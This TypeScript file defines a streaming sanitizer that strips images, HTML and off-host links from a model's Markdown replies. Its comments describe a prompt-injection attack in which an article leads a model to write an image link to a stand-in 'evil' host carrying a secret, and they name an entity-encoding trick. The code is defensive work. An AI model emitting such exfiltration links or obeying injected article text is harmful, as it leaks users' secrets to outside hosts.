const LINK = /^(!?)\[([^[\]\n]{0,300})\]\(([^()\n]{0,2000})\)/;
const FOOTNOTE = /^\[\^[^[\]\s]{1,60}\]:/;
/** What may still become a link, picture, definition or tag with the next piece. */
const OPEN = /^(?:!?(?:\[[^[\]\n]{0,300}(?:\](?:\([^()\n]{0,2000})?)?)?|\](?:\(\/?)?|<[/!?]?)$/;
const START = /!?\[|\]\(|\]:|<|[!\]]$/;

/** Begins like a path of this console, not of another host. Markdown decodes entities: `/&#47;evil` is `//evil`. */
const beginsOwn = (address: string): boolean => /^\/(?![/\\&])/.test(address);

/** A path of this console that holds nothing Markdown could read as the beginning of something else. */
const isOwn = (address: string): boolean => beginsOwn(address) && !/[\s[\]<>\\]/.test(address);

/** Signs that make a mark of what stands before them, and the full-width ones that do not. */
const WIDE: Readonly<Record<string, string>> = { "(": "（", ":": "：", "[": "［", "/": "／", "!": "！", "?": "？" };
/** Marks that would come about where a link is taken away between their two halves. */
const JOINED = /^(?:\][(:]|!\[|<[/!?a-z])/i;

/**
 * Takes pictures, HTML and links to other hosts out of a streamed Markdown reply: an article that talks a model into
 * writing `![](https://evil/?secret)` would make the reader's browser send it. Words stay; links inside the console stay.
 * Holds back only what may become one of these; everything else passes at once, unchanged and in order.
 */
export class CleanReply {
  #rest = "";
  /** The last character shown. */
  #shown = "";
  /** Whether a link was taken away just there. */
  #seam = false;

  /** What of the reply may be shown after this piece. */
  feed(piece: string): string {
    this.#rest += piece;
    return this.#take(false);
  }

  /** Whether something is held back. */
  get waiting(): boolean {
    return this.#rest !== "";
  }

  /** What was held back, at the end. */
  end(): string {
    return this.#take(true);
  }

  #take(last: boolean): string {
    let out = "";
    const show = (text: string): void => {
      out += text;
      this.#shown = text.at(-1) ?? this.#shown;
    };
    while (this.#rest) {
      if (this.#seam) {
        this.#seam = false;
        const next = this.#rest.charAt(0);
        if (JOINED.test(this.#shown + next)) {
          show(WIDE[next] ?? ` ${next}`);
          this.#rest = this.#rest.slice(1);
          continue;
        }
      }
      const at = this.#rest.search(START);
      show(at < 0 ? this.#rest : this.#rest.slice(0, at));
      this.#rest = at < 0 ? "" : this.#rest.slice(at);
      if (!this.#rest) break;
      const link = LINK.exec(this.#rest);
      if (!link && !last && OPEN.test(this.#rest)) break;
      if (link && !isShown(link)) {
        // Its words are read again, with what follows them.
        this.#rest = (link[2] ?? "").replace(/!$/, "！") + this.#rest.slice(link[0].length);
        this.#seam = true;
        continue;
      }
      const [taken, shown] = link ? [link[0].length, link[0]] : markShown(this.#rest);
      show(shown);
      this.#rest = this.#rest.slice(taken);
    }
    return out;
  }
}

const isShown = ([, picture, words = "", address = ""]: RegExpExecArray): boolean => !picture && isOwn(address) && !words.includes("<");

/** How many characters to take, and what to show for them; full-width signs mean nothing to Markdown. */
function markShown(rest: string): [number, string] {
  if (rest.startsWith("![")) return [1, "！"];
  if (rest.startsWith("](")) return [2, beginsOwn(rest.slice(2)) ? "](" : "]（"];
  if (rest.startsWith("<")) return [1, /^<[/!?]?[a-z-]/i.test(rest) ? "＜" : "<"];
  const footnote = FOOTNOTE.exec(rest);
  if (footnote) return [footnote[0].length, footnote[0]];
  // The address of a definition has too many spellings (escapes, entities, line breaks) to tell ours from others'.
  if (rest.startsWith("]:")) return [2, "]："];
  return [1, rest.charAt(0)];
}
